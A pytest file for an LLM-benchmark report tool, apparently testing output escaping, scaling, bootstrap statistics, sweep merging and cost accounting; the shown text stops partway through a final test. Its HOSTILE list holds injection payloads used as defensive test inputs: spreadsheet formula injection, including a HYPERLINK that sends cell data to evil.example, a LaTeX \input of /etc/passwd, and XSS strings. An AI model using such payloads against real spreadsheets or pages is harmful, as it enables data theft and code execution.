"""`report` for whoever reads it: hostile names stay text in CSV, LaTeX, Markdown and HTML; a 20,000-row sweep
reports in seconds; several sweeps read the same in any order; every mean says n of planned; the paper's
syntax-error rate; what a study cost whether its answers came from the cache or not."""

import csv
import io
import json
import math
import re
import subprocess
import sys
import warnings
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scipy import stats

from autonesy.graph.report import BOOTSTRAP_RESAMPLES, BOOTSTRAP_SEED, ReportError, bootstrap_ci, build_report
from autonesy.graph.results import ROW_FIELDS
from autonesy.tools.table_cells import csv_cell, latex_text, markdown_text

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "benchmarks"))
from report_scale import make_sweep  # noqa: E402

LLM = "http://h:8000/v1@qwen3-8b"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "^^5cinput^^7b/etc/passwd^^7d",
    "\\input{/etc/passwd}",
    "& % $ # _ { } ~ ^ \\",
    "<img src=x onerror=alert(1)>",
    "a|b",
    "[click](javascript:alert(1))",
    "line\nbreak",
    "pkg/name",
]


def row(llm, *, attempt, status="accepted", f1=1.0, failure=None, fmt="nat", task="fashion", prompt="zs", **more):
    data = dict.fromkeys(ROW_FIELDS)
    rejected = status == "rejected"
    data.update(
        attempt_id=attempt,
        task=task,
        task_spec=task,
        benchmark="catalogue",
        num_vars=10,
        llm=llm,
        model=llm.rsplit("@", 1)[-1],
        format=fmt,
        prompt=prompt,
        detail="detailed",
        policy=prompt,
        decoding="free",
        repeat=0,
        max_repairs=5,
        status=status,
        failure=failure if status != "accepted" else None,
        syntax_error=rejected and failure not in ("empty_answer",),
        repair_rounds=0,
        autofixes=[],
        n_autofixes=0,
        llm_calls=1,
        cached_calls=0,
        prompt_tokens=100,
        completion_tokens=50,
        llm_seconds=1.0,
        f1=f1 if status in ("accepted", "rejected") else None,
        relation="equal" if status == "accepted" else None,
        run_dir=f"attempts/{attempt}",
    )
    data.update(more)
    return data


def sweep(folder: Path, rows) -> Path:
    folder.mkdir(parents=True)
    (folder / "results.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    return folder


def tables(report):
    return {t.name: t for t in report.tables}


# ------------------------------------------------------------------------------ escaping
@pytest.mark.parametrize("name", HOSTILE)
def test_a_csv_cell_never_starts_a_formula_and_numbers_stay_numbers(name):
    cell = csv_cell(name)
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) or cell == name  # unchanged: harmless
    assert cell.lstrip("'") == name.replace("\r", "\n")
    assert csv_cell(-0.25) == -0.25 and csv_cell("-0.25") == "-0.25" and csv_cell(7) == 7 and csv_cell(None) is None
    assert csv_cell("-inf") == "'-inf" and csv_cell("=1") == "'=1" and csv_cell("x=1") == "x=1"


@given(st.text())
def test_latex_text_leaves_no_special_character_live(text):
    escaped = latex_text(text)
    # every special character is preceded by a backslash or inside one of our commands; no raw ^ or ~ or newline
    assert "^" not in escaped and "~" not in escaped and "\n" not in escaped and "\r" not in escaped
    bare = re.sub(r"\\(textbackslash|textasciitilde|textasciicircum)\{\}|\\[&%$#_{}]|\$\\pm\$|\$\\Delta\$", "", escaped)
    assert not set(bare) & set("&%$#_{}\\")


@given(st.text())
def test_markdown_text_holds_no_tag_no_column_break_and_no_link(text):
    escaped = markdown_text(text)
    assert "<" not in escaped and ">" not in escaped and "\n" not in escaped
    assert "|" not in escaped.replace("\\|", "") and "[" not in escaped.replace("\\[", "")


def test_hostile_names_stay_text_in_every_report_file(tmp_path):
    rows = []
    for i, name in enumerate(HOSTILE):
        rows.append(row(f"http://h/v1@{name}", attempt=f"a{i}", task=name, prompt=name))
        rows.append(row(f"http://h/v1@{name}", attempt=f"b{i}", status="infra_failed", failure="connection", task=name))
    folder = sweep(tmp_path / "sweep", rows)
    out = tmp_path / "report"
    build_report([folder], out, plots=False)
    for path in out.glob("*.csv"):
        with open(path, newline="") as file:  # as a spreadsheet reads it: a carriage return ends a row
            text = file.read()
        assert "\r" not in text  # a lone carriage return, unquoted by Python's writer, would start a row
        for record in csv.reader(io.StringIO(text, newline="")):
            for cell in record:
                assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                assert not cell.startswith("-") or re.fullmatch(r"-[\d.e+-]+", cell), (path.name, cell)
    for path in out.glob("*.tex"):
        text = path.read_text()
        assert "^" not in text and "\\input" not in text.replace("\\textbackslash{}input", ""), path.name
        assert "<img" in text  # LaTeX has no HTML: shown as it is, harmless there
    for path in out.glob("*.md"):
        text = path.read_text()
        assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text, path.name
        assert not re.search(r"(?<!\\)\[click\]\(javascript:", text)  # a link's bracket is escaped
        for line in text.splitlines():  # every table line has as many cells as its header
            if line.startswith("|"):
                assert len(re.split(r"(?<!\\)\|", line)) == len(re.split(r"(?<!\\)\|", text.split("\n")[2])), line
    by_llm = (out / "by_llm.md").read_text()
    assert "pkg/name" in by_llm  # a plugin's name shows as it is


def test_hostile_names_stay_escaped_in_the_html_pages(tmp_path):
    from autonesy.graph.view.export import export_html

    rows = [row(f"http://h/v1@{name}", attempt=f"a{i}", task=name) for i, name in enumerate(HOSTILE)]
    folder = sweep(tmp_path / "sweep", rows)
    index = export_html([folder], tmp_path / "html")
    pages = "".join(p.read_text() for p in index.parent.rglob("*.html"))
    assert "<img src=x" not in pages and "&lt;img src=x onerror=alert(1)&gt;" in pages


# --------------------------------------------------------------------------------- scale
def _report_at_scale(tmp_path, rows: int, llms: int) -> None:
    make_sweep(tmp_path / "big", rows, llms)
    report = build_report([tmp_path / "big"], tmp_path / "r", plots=False)
    by_llm = tables(report)["by_llm"]
    assert len(by_llm.rows) == llms  # every LLM keeps its row
    assert sum(r["planned"] for r in by_llm.data) == rows
    assert sum(r["attempts"] for r in by_llm.data) == report.counted


@pytest.mark.timeout(120)  # generous: the quadratic report took 44 s of CPU at 2,000 rows; now 2 s
def test_a_report_over_3000_rows_and_300_llms_finishes(tmp_path):
    _report_at_scale(tmp_path, 3_000, 300)


@pytest.mark.slow
@pytest.mark.timeout(300)  # generous: 14 s of CPU; the quadratic report took 248 s
def test_a_report_over_20000_rows_and_2000_llms_finishes(tmp_path):
    _report_at_scale(tmp_path, 20_000, 2_000)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.floats(0, 1, allow_nan=False), min_size=2, max_size=40)
    | st.lists(st.sampled_from([0.0, 1.0]), min_size=2, max_size=40)
)
def test_the_bootstrap_interval_is_scipys(values):
    data = np.asarray(values)
    expected = stats.bootstrap(
        (data,),
        np.mean,
        n_resamples=BOOTSTRAP_RESAMPLES,
        confidence_level=0.95,
        method="percentile",
        random_state=np.random.default_rng(BOOTSTRAP_SEED),
        vectorized=True,
    ).confidence_interval
    low, high = bootstrap_ci(values)
    if np.all(data == data[0]):
        assert low == high == data[0]
    else:
        assert low == pytest.approx(expected.low, abs=1e-12) and high == pytest.approx(expected.high, abs=1e-12)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.floats(0, 1, allow_nan=False) | st.none(), max_size=40)
    | st.lists(st.sampled_from([0.0, 1.0, None]), max_size=40)
)
def test_a_measure_is_numpys_mean_and_std_with_the_bootstrap_interval(values):
    """Small samples' measures are kept per sample (flags and rates repeat): each is still NumPy's mean and population
    std of the values given, with their interval, whichever sample was measured before."""
    from autonesy.graph.report import measure

    data = np.asarray([v for v in values if v is not None], dtype=float)
    got = measure(values)
    assert got["n"] == data.size
    if not data.size:
        assert all(math.isnan(got[k]) for k in ("mean", "std", "low", "high"))
        return
    assert (got["mean"], got["std"]) == (float(data.mean()), float(data.std()))
    assert (got["low"], got["high"]) == bootstrap_ci(data)


def test_a_large_group_is_resampled_in_chunks_with_the_same_interval():
    values = np.random.default_rng(0).random(3000)  # 2000 × 3000 resampled values would be 48 MB at once
    expected = stats.bootstrap(
        (values,),
        np.mean,
        n_resamples=BOOTSTRAP_RESAMPLES,
        method="percentile",
        random_state=np.random.default_rng(BOOTSTRAP_SEED),
    ).confidence_interval
    assert bootstrap_ci(values) == pytest.approx((expected.low, expected.high), abs=1e-12)


# ------------------------------------------------------------------------- several sweeps
def test_reading_a_partial_sweep_and_its_rerun_is_the_same_in_either_order(tmp_path):
    # the partial sweep: attempt 1 failed on infrastructure, attempt 2 was never run; the rerun has both finished
    partial = sweep(
        tmp_path / "partial",
        [
            row(LLM, attempt="a1", status="infra_failed", failure="connection"),
            row(LLM, attempt="a2", status="pending"),
            row(LLM, attempt="a3", f1=0.5),
        ],
    )
    rerun = sweep(
        tmp_path / "rerun",
        [
            row(LLM, attempt="a1", f1=1.0),
            row(LLM, attempt="a2", status="rejected", f1=0.0, failure="syntax"),
            row(LLM, attempt="a3", f1=0.5, wall_seconds=9.0),  # the same outcome, another timing
        ],
    )
    one = build_report([partial, rerun], tmp_path / "ab", plots=False)
    two = build_report([rerun, partial], tmp_path / "ba", plots=False)
    for name in ("by_llm", "by_setting", "per_task", "cost_by_llm"):
        assert (tmp_path / "ab" / f"{name}.csv").read_text() == (tmp_path / "ba" / f"{name}.csv").read_text()
    [record] = tables(one)["by_llm"].data
    assert record["attempts"] == 3 and record["infra_failed"] == 0  # the complete outcome of each attempt
    assert record["f1_mean"] == pytest.approx((1.0 + 0.0 + 0.5) / 3)
    assert sorted(one.merged) == sorted(two.merged) and len(one.merged) == 3
    assert f"kept accepted from {rerun} over {partial} (infra_failed)" in one.merged
    assert "attempts read more than once, the most complete outcome kept" in one.render("md")
    from typer.testing import CliRunner

    from autonesy.graph.cli import app

    shown = CliRunner().invoke(app, ["report", str(rerun), str(partial), "--out", str(tmp_path / "cli"), "--no-plots"])
    assert shown.exit_code == 0 and "merged: 3 attempts read more than once" in shown.stderr


def test_two_different_finished_outcomes_of_one_attempt_are_refused_with_one_line(tmp_path):
    a = sweep(tmp_path / "a", [row(LLM, attempt="x1", f1=1.0)])
    b = sweep(tmp_path / "b", [row(LLM, attempt="x1", status="rejected", f1=0.0, failure="syntax")])
    for order in ([a, b], [b, a]):
        with pytest.raises(ReportError, match=r"attempt x1 has different") as error:
            build_report(order, tmp_path / "r", plots=False)
        assert str(a) in str(error.value) and str(b) in str(error.value) and "\n" not in str(error.value)


def test_two_copies_that_differ_only_in_a_field_no_table_reads_are_refused_too(tmp_path):
    """A report keeps only the fields its tables read, but two copies of an attempt are still compared whole: a
    count (tp) or a path differing is a different outcome; a timing is not."""
    base = row(LLM, attempt="x1", f1=1.0)
    for field, value, refused in (("tp", 7, True), ("sdd_size", 12, True), ("wall_seconds", 99.0, False)):
        a = sweep(tmp_path / f"a-{field}", [base])
        b = sweep(tmp_path / f"b-{field}", [{**base, field: value}])
        if refused:
            with pytest.raises(ReportError, match=r"attempt x1 has different"):
                build_report([a, b], tmp_path / "r", plots=False)
        else:
            assert build_report([a, b], tmp_path / "r", plots=False).merged


# ------------------------------------------------------------------- tables that do not mislead
def test_an_llm_with_only_infrastructure_failures_keeps_its_row_in_every_table(tmp_path):
    down = "http://down/v1@broken-model"
    rows = [row(LLM, attempt="a", f1=1.0), row(LLM, attempt="b", f1=0.5, fmt="dimacs")]
    rows += [
        row(down, attempt=f"d{i}", status="infra_failed", failure="connection", fmt=f)
        for i, f in enumerate(("nat", "dimacs"))
    ]
    report = build_report([sweep(tmp_path / "s", rows)], tmp_path / "r", plots=False)
    found = tables(report)
    broken = {r["llm"]: r for r in found["by_llm"].data}[down]
    assert broken["attempts"] == 0 and broken["planned"] == 2 and broken["infra_failed"] == 2
    assert math.isnan(broken["f1_mean"])
    for name in ("by_setting", "by_llm", "per_task", "cost_by_llm"):
        assert any("broken-model" in " ".join(cells) for cells in found[name].rows), name
    assert "| broken-model (http://down/v1@broken-model) | 0 of 2 | 2 |" in found["by_llm"].markdown()
    marginals = {(r["slice"], r["value"]): r for r in found["marginals"].data}
    assert (marginals[("format", "nat")]["attempts"], marginals[("format", "nat")]["planned"]) == (1, 2)


def test_the_syntax_error_rate_is_the_papers_with_budget_cuts_and_outages_apart(tmp_path):
    rows = [
        row(LLM, attempt="ok", f1=1.0),
        row(LLM, attempt="syn", status="rejected", f1=0.0, failure="syntax"),
        row(LLM, attempt="rep", status="rejected", f1=0.0, failure="repeated_answer"),
        row(LLM, attempt="cut1", status="rejected", f1=0.0, failure="token_budget"),
        row(LLM, attempt="cut2", status="rejected", f1=0.0, failure="token_budget"),
        row(LLM, attempt="empty", status="rejected", f1=0.0, failure="empty_answer"),
        row(LLM, attempt="down", status="infra_failed", failure="rate_limit"),
    ]
    report = build_report([sweep(tmp_path / "s", rows)], tmp_path / "r", plots=False)
    [record] = tables(report)["by_llm"].data
    # 6 answers counted: 2 still do not parse (syntax, repeated), 2 cut by the budget, 1 empty; the outage counts in none
    assert record["attempts"] == 6 and record["planned"] == 7 and record["infra_failed"] == 1
    assert record["syntax_error_rate"] == pytest.approx(2 / 6)
    assert record["token_budget_rate"] == pytest.approx(2 / 6) and record["empty_answer_rate"] == pytest.approx(1 / 6)


def test_would_cost_adds_what_the_cached_answers_cost_when_they_were_made(tmp_path):
    config = tmp_path / "server.toml"
    config.write_text(
        '[llm]\nbase_url = "http://127.0.0.1:9/v1"\nmodel = "m"\nprompt_price_per_mtok = 1.0\n'
        "completion_price_per_mtok = 2.0\n"
    )
    rows = [
        row(str(config), attempt="sent", prompt_tokens=100, completion_tokens=50),
        row(
            str(config),
            attempt="cached",
            llm_calls=0,
            cached_calls=1,
            prompt_tokens=0,
            completion_tokens=0,
            llm_seconds=0.0,
            cached_prompt_tokens=120,
            cached_completion_tokens=30,
            cached_llm_seconds=2.5,
        ),
    ]
    report = build_report([sweep(tmp_path / "s", rows)], tmp_path / "r", plots=False)
    [cost] = tables(report)["cost_by_llm"].data
    assert (cost["prompt_tokens"], cost["completion_tokens"]) == (100, 50)
    assert (cost["would_cost_prompt_tokens"], cost["would_cost_completion_tokens"]) == (220, 80)
    assert cost["cached_calls"] == 1 and cost["cost"] == pytest.approx((100 * 1.0 + 50 * 2.0) / 1e6)
    assert cost["would_cost"] == pytest.approx((220 * 1.0 + 80 * 2.0) / 1e6)
    [llm] = tables(report)["by_llm"].data
    assert llm["tokens_mean"] == (150 + 150) / 2 and llm["llm_seconds_mean"] == (1.0 + 2.5) / 2


# ----------------------------------------------------------------------- the comparison view
def test_two_policies_are_compared_side_by_side_per_llm_and_format():
    from autonesy.graph.view.pages import compare_sweeps

    other = "http://h:8000/v1@gemma4-31b"
    zs_f1 = {
        (LLM, "nat"): [1.0, 0.5],
        (LLM, "dimacs"): [0.0, 0.0],
        (other, "nat"): [1.0, 1.0],
        (other, "dimacs"): [0.25, 0.75],
    }
    of_f1 = {
        (LLM, "nat"): [1.0, 1.0],
        (LLM, "dimacs"): [0.5, 0.0],
        (other, "nat"): [0.5, 1.0],
        (other, "dimacs"): [1.0, 1.0],
    }

    def rows(scores, policy):
        return [
            row(llm, attempt=f"{policy}-{llm}-{fmt}-{i}", fmt=fmt, f1=f1, policy=policy)
            for (llm, fmt), values in scores.items()
            for i, f1 in enumerate(values)
        ]

    found = compare_sweeps(rows(zs_f1, "zs"), rows(of_f1, "oracle-feedback"))
    assert [(s["name"], s["a"], s["b"]) for s in found["varied"]] == [("policy", ["zs"], ["oracle-feedback"])]
    assert found["keys"] == ["llm", "format"]  # aligned on what both share; the policy is side by side
    assert len(found["rows"]) == 4
    for cell in found["rows"]:
        key = tuple(cell["key"])
        a, b = zs_f1[key], of_f1[key]
        assert cell["a"]["n"] == cell["a"]["planned"] == 2 and cell["b"]["n"] == 2
        assert cell["delta"] == pytest.approx(sum(b) / 2 - sum(a) / 2)
        low, high = cell["delta_ci"]
        assert low <= cell["delta"] + 1e-12 and cell["delta"] - 1e-12 <= high
        # each side has 2 values: the resampled difference lies between the extreme pairs' differences
        assert min(b) - max(a) - 1e-12 <= low and high <= max(b) - min(a) + 1e-12


def test_a_rerun_with_an_llm_that_failed_on_infrastructure_differs_in_nothing_planned():
    from autonesy.graph.view.pages import compare_sweeps

    down = "http://down/v1@broken-model"
    first = [row(LLM, attempt="a", f1=1.0), row(down, attempt="b", status="infra_failed", failure="connection")]
    rerun = [row(LLM, attempt="a", f1=1.0), row(down, attempt="b", f1=0.5)]
    found = compare_sweeps(first, rerun)
    assert found["varied"] == [] and all(s["a"] == s["b"] for s in found["settings"])
    cells = {tuple(c["key"]): c for c in found["rows"]}
    broken = cells[(down,)]
    assert (broken["a"]["n"], broken["a"]["planned"], broken["b"]["n"]) == (0, 1, 1)
    assert math.isnan(broken["delta"]) and cells[(LLM,)]["delta"] == 0.0


def test_the_csvs_of_a_pooled_report_say_they_were_pooled(tmp_path):
    rows = [row(LLM, attempt="z", f1=1.0), row(LLM, attempt="o", f1=0.0, policy="oracle-feedback")]
    folder = sweep(tmp_path / "s", rows)
    build_report([folder], tmp_path / "plain", plots=False)
    build_report([folder], tmp_path / "pooled", plots=False, pool=["policy"])
    for name in ("by_setting", "syntax_errors_by_setting", "by_llm", "per_task", "cost_by_llm", "marginals"):
        plain = list(csv.DictReader(io.StringIO((tmp_path / "plain" / f"{name}.csv").read_text())))
        pooled = list(csv.DictReader(io.StringIO((tmp_path / "pooled" / f"{name}.csv").read_text())))
        assert all("pooled_over" not in record for record in plain), name
        assert pooled and all(record["pooled_over"] == "policy: oracle-feedback, zs" for record in pooled), name


# --------------------------------------------------------------------------- round outcomes
def _round(kind, verdict):
    return {"event": "repair_round", "round": 1, "error_kind": kind, "error": "x", "verdict": verdict}


@pytest.mark.parametrize(
    "after, said, passed",
    [
        # [[FIXED]] then the attempt was stopped for its token budget: the check never passed
        ([{"event": "outcome", "status": "rejected", "failure": "token_budget"}], "rejected (token_budget)", False),
        ([{"event": "syntax_error", "kind": "lint"}], "new error: lint", False),
        ([{"event": "syntax_error", "kind": "token_budget"}], "same error: token_budget", False),
        (
            [{"event": "node", "node": "repair", "status": "running"}, {"event": "node", "node": "check_syntax"}],
            "parses",
            True,
        ),
        ([], "not checked", False),
    ],
)
def test_a_repair_round_says_what_the_next_check_found(after, said, passed):
    from autonesy.graph.trace import next_check

    assert next_check([_round("token_budget", "fixed"), *after], 0) == (said, passed)


def test_node_rows_show_what_the_node_did_not_the_attempts_running_status():
    from autonesy.graph.view.pages import timeline

    events = (
        {"event": "node", "node": "formalize", "seconds": 0.1, "status": "running"},
        {"event": "syntax_error", "kind": "syntax", "message": "bad"},
        {"event": "node", "node": "check_syntax", "seconds": 0.1, "status": "running"},
        _round("syntax", "fixed"),
        {"event": "node", "node": "repair", "seconds": 0.1, "status": "running"},
        {"event": "syntax_error", "kind": "lint", "message": "worse"},
        {"event": "node", "node": "check_syntax", "seconds": 0.1, "status": "running"},
        {"event": "outcome", "status": "rejected", "failure": "syntax"},
    )
    items = timeline(events)
    notes = [item["note"] for item in items if item["event"] == "node"]
    assert not any("running" in note for note in notes)
    assert notes[1].endswith("syntax error: syntax") and notes[2].endswith("answered fixed")
    [repair] = [item for item in items if item["event"] == "repair_round"]
    assert (
        repair["title"].endswith("answered fixed · next check: new error: lint") and repair["verdict"] == "still-error"
    )


# ---------------------------------------------------------------------- a study from the cache
def test_a_fully_cached_sweep_would_cost_what_the_uncached_one_spent(tmp_path):
    from scripted_llm import MISTAKE_TASKS, ScriptedChatModel, mistakes_answer

    from autonesy.agents.llm import LangChainChatBackend, ResponseCache
    from autonesy.graph.sweep.grid import SweepSpec
    from autonesy.graph.sweep.run import run_sweep

    spec = "http://scripted.test/v1@mistakes"
    grid = SweepSpec(tasks=MISTAKE_TASKS, formats=("dimacs",), prompts=("zs",), details=("not-detailed",), llms=(spec,))
    cache = tmp_path / "responses.sqlite"

    def backend():
        return LangChainChatBackend(
            ScriptedChatModel(answer=mistakes_answer), "http://scripted.test/v1", "mistakes", cache=ResponseCache(cache)
        )

    first, again = backend(), backend()
    made = run_sweep(grid, tmp_path / "made", backends={spec: first}, progress=False)
    cached = run_sweep(grid, tmp_path / "cached", backends={spec: again}, progress=False)
    assert again.calls == 0 and first.calls > 0  # the second study asked the model nothing
    spent = made.usage
    assert spent["cached_answers"] == 0 and spent["tokens_spent"] == spent["tokens_would_cost"] > 0
    assert cached.usage == {
        "llm_calls": 0,
        "cached_answers": spent["llm_calls"],
        "tokens_spent": 0,
        "tokens_would_cost": spent["tokens_spent"],
    }
    assert json.loads((tmp_path / "cached" / "sweep.json").read_text())["usage"] == cached.usage
    by_id = {r["attempt_id"]: r for r in made.rows}
    for row_ in cached.rows:  # each attempt's answers cost, when made, what the first study paid for them
        paid = by_id[row_["attempt_id"]]
        assert (row_["cached_prompt_tokens"], row_["cached_completion_tokens"]) == (
            paid["prompt_tokens"],
            paid["completion_tokens"],
        )
    report = build_report([tmp_path / "cached"], tmp_path / "r", plots=False)
    [cost] = tables(report)["cost_by_llm"].data
    assert cost["prompt_tokens"] == cost["completion_tokens"] == 0
    assert cost["would_cost_prompt_tokens"] == sum(r["prompt_tokens"] for r in made.rows)
    assert cost["would_cost_completion_tokens"] == sum(r["completion_tokens"] for r in made.rows)


def test_a_dry_run_counts_the_first_answers_the_cache_already_holds(tmp_path):
    from loopback_llm import LoopbackLLM
    from typer.testing import CliRunner

    from autonesy.graph.cli import app

    runner = CliRunner()
    answer = "<cnf>\np cnf 10 1\n1 2 0\n</cnf>"  # any answer: the dry run looks up first calls, whatever they say

    def sweep_args(llm, out, *more):
        return ["sweep", "--llm", llm, "--tasks", "fashion", "--formats", "dimacs", "--out", str(out), *more]

    with LoopbackLLM(answer) as server:
        cold = runner.invoke(app, [*sweep_args(server.spec(), tmp_path / "b", "--dry-run"), "--json"])
        assert cold.exit_code == 0, cold.output
        assert json.loads(cold.stdout)["cached_first_answers"] == 0
        assert runner.invoke(app, sweep_args(server.spec(), tmp_path / "a", "--quiet")).exit_code == 0
        sent = server.count
        warm = runner.invoke(app, [*sweep_args(server.spec(), tmp_path / "b", "--dry-run"), "--json"])
        text = runner.invoke(app, sweep_args(server.spec(), tmp_path / "b", "--dry-run"))
        assert server.count == sent  # the dry run looked the answers up, sent nothing
    plan = json.loads(warm.stdout)
    assert plan["to_run"] == 4 and plan["cached_first_answers"] == 4 and not (tmp_path / "b").exists()
    assert "holds the first answer of 4 of the 4 attempts to run" in " ".join(text.stdout.split())


def test_the_sweeps_own_results_csv_is_neutralised_too(tmp_path):
    from autonesy.graph.results import write_results

    rows = [row(f"http://h/v1@{name}", attempt=f"a{i}", task=name, reason=name) for i, name in enumerate(HOSTILE)]
    write_results(tmp_path, rows)
    with open(tmp_path / "results.csv", newline="") as file:
        text = file.read()
    assert "\r" not in text.replace("\r\n", "")  # rows end in CRLF (the csv module's default); no lone CR inside
    records = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(records) == len(HOSTILE)
    for record, name in zip(records, HOSTILE):
        for column in ("model", "llm", "task", "reason"):
            assert not record[column].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), record[column]
        assert record["task"].lstrip("'") == record["reason"].lstrip("'") == name.replace("\r", "\n")
        assert record["f1"] == "1.0" and record["prompt_tokens"] == "100"  # numbers stay numbers


def test_a_report_holds_rows_column_by_column_and_reads_the_same_as_from_dicts(tmp_path):
    """The rows held column by column (and records as tuples under shared columns) change memory, not numbers:
    every table's CSV equals the one built from the rows as plain dicts."""
    from autonesy.graph.report import load_results, report_tables
    from autonesy.graph.report_rows import RowColumns

    make_sweep(tmp_path / "sweep", 400, 40)
    loaded = load_results([tmp_path / "sweep"])
    assert isinstance(loaded.rows, RowColumns) and len(loaded.rows) == 400
    as_dicts = [dict(row) for row in loaded.rows]
    assert as_dicts[0]["attempt_id"] == loaded.rows[0]["attempt_id"] and set(as_dicts[0]) >= set(ROW_FIELDS)
    on_disk = {row["attempt_id"]: row for row in map(json.loads, (tmp_path / "sweep/results.jsonl").open())}
    for row in as_dicts:  # every value as written
        assert {k: v for k, v in row.items() if k in ROW_FIELDS} == {
            k: on_disk[row["attempt_id"]].get(k) for k in ROW_FIELDS
        }
    compact, _, _ = report_tables(loaded.rows)
    plain, _, _ = report_tables(as_dicts)
    assert [t.name for t in compact] == [t.name for t in plain]
    for a, b in zip(compact, plain):
        assert a.csv() == b.csv() and a.markdown() == b.markdown()
        assert json.dumps(list(a.data)) == json.dumps([dict(r) for r in b.data])  # NaN equal to NaN


def test_table_records_keep_every_column_in_order_of_first_appearance():
    from autonesy.graph.report import Table

    table = Table("t", "T", ["a"], [["1"]], [{"a": 1, "b": 0.5}, {"a": 2, "c": "=x"}, {"b": None, "a": 3}])
    assert list(table.data) == [{"a": 1, "b": 0.5}, {"a": 2, "c": "=x"}, {"b": None, "a": 3}]
    parsed = list(csv.reader(io.StringIO(table.csv())))
    assert parsed == [["a", "b", "c"], ["1", "0.5", ""], ["2", "", "'=x"], ["3", "", ""]]


def test_results_lines_are_read_one_at_a_time_whatever_their_ending(tmp_path):
    """Blank lines, CRLF endings, a last line without its newline and bytes that are not UTF-8 (replaced, as
    before) all read as the rows they hold."""
    from autonesy.graph.results import iter_results

    path = tmp_path / "results.jsonl"
    path.write_bytes(b'{"a": 1}\r\n\n  \n{"b": "x\xffy"}\n{"c": [2]}')
    assert list(iter_results(path)) == [{"a": 1}, {"b": "x\ufffdy"}, {"c": [2]}]


def test_the_bootstrap_caches_stay_small_whatever_the_group_sizes():
    """Groups of every size from 2 to 600 (a report over 100,000 attempts and 200 LLMs): what the intervals' caches
    keep is a few MB, not a resample matrix per size (64 of up to 8 MB each made a report of 500 MB). Measured as
    the resident memory of a fresh process (NumPy's buffers are not seen by tracemalloc)."""
    script = (
        "import numpy as np\n"
        "from pathlib import Path\n"
        "from autonesy.graph.report import bootstrap_ci\n"
        "def rss():\n"
        "    status = dict(line.split(':', 1) for line in Path('/proc/self/status').read_text().splitlines())\n"
        "    return int(status['VmRSS'].split()[0]) * 1024\n"
        "rng = np.random.default_rng(1)\n"
        "bootstrap_ci(rng.random(3))\n"
        "before = rss()\n"
        "for n in range(2, 601):\n"
        "    bootstrap_ci(rng.random(n))\n"
        "print(rss() - before)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, check=True)
    held = int(done.stdout.split()[-1])
    assert held < 40 * 2**20, held


@pytest.mark.timeout(120)  # generous: 2 s; every row's own key held as a column took 7 s and 900 MB at 5,000 rows
def test_rows_that_each_carry_a_key_of_their_own_read_as_the_table_fields_only(tmp_path):
    """The viewer hands the report a received file's rows as they are: keys no table reads (here a distinct one
    per row) are left out before the rows are held, so the tables are those of the rows without them."""
    from autonesy.graph.report import TABLE_FIELDS, frame, report_tables

    make_sweep(tmp_path / "sweep", 8000, 40)
    plain = [json.loads(line) for line in (tmp_path / "sweep/results.jsonl").open()]
    extra = [{**row, f"extra{i}": i} for i, row in enumerate(plain)]
    got, _, _ = report_tables(extra)
    expected, _, _ = report_tables(plain)
    assert [t.csv() for t in got] == [t.csv() for t in expected]
    assert not [c for c in frame(extra, planned=True, fields=TABLE_FIELDS).columns if c.startswith("extra")]


def test_token_counts_that_overflow_a_float_are_shown_as_such_not_a_crash(tmp_path):
    """A received row may claim 1e308 tokens (a finite float, so it passes the row check): two of them sum past
    what a float holds, and the cost table says inf instead of failing to make an int of it."""
    rows = [row(LLM, attempt=f"a{i}", prompt_tokens=1e308, llm_calls=1e308) for i in range(2)]
    report = build_report([sweep(tmp_path / "s", rows)], tmp_path / "r", plots=False)
    [record] = tables(report)["cost_by_llm"].data
    assert record["prompt_tokens"] == math.inf and record["llm_calls"] == math.inf


def test_a_received_sweep_of_thousands_of_task_names_and_odd_text_reports_each_as_written(tmp_path: Path):
    """More distinct task names than a column codes (so most are held as UTF-8 beside the codes), ids and a task
    with a lone surrogate (JSON can hold one), ints past 32 bits: every task is a row of per_task, named as in the
    file, and the tokens are summed exactly."""
    names = ["\ud800t", "a\x00b", "é" * 40] + [f"task-{i}" for i in range(5000)]
    rows = [
        row(
            "http://llm.example/v1@m",
            attempt=f"\ud800{i:x}",
            task=name,
            prompt_tokens=2**40 + i,
            completion_tokens=0,
            run_dir=f"attempts/{i}",
        )
        for i, name in enumerate(names)
    ]
    report = build_report([sweep(tmp_path / "sweep", rows)], tmp_path / "out", plots=False)
    found = tables(report)
    assert sorted(record["task"] for record in found["per_task"].data) == sorted(names)
    [cost] = found["cost_by_llm"].data
    assert cost["prompt_tokens"] == sum(2**40 + i for i in range(len(names)))


# ------------------------------------------------------------------------------ forged numbers and paths
def test_a_number_no_attempt_can_have_is_emptied_not_averaged(tmp_path):
    """An F1 of 1e308 (finite, so JSON holds it) or below 0, a negative token count: a forged row is read with those
    fields empty, and the means are those of the honest rows alone — no overflow, no warning."""
    honest = [row("m", attempt=f"a{i}", f1=0.5) for i in range(4)]
    forged = [
        row("m", attempt="f1", f1=1e308),
        row("m", attempt="f2", f1=-0.5),
        row("m", attempt="f3", f1=2.0, prompt_tokens=-100),
    ]
    folder = sweep(tmp_path / "s", honest + forged)
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # a RuntimeWarning (overflow in a mean) fails the test
        report = build_report([folder], tmp_path / "out", plots=False)
    text = (tmp_path / "out" / "by_llm.csv").read_text()
    record = next(csv.DictReader(io.StringIO(text)))
    assert float(record["f1_mean"]) == pytest.approx(0.5)  # the three forged F1s are missing, not 1e308
    assert report.counted == 7


def test_a_run_dir_no_path_can_hold_reads_as_no_trace(tmp_path):
    """A received row whose run_dir holds a lone surrogate (JSON can): the row is read without a trace, the rest too."""
    rows = [row("m", attempt="a0"), row("m", attempt="a1", run_dir="attempts/\udcff")]
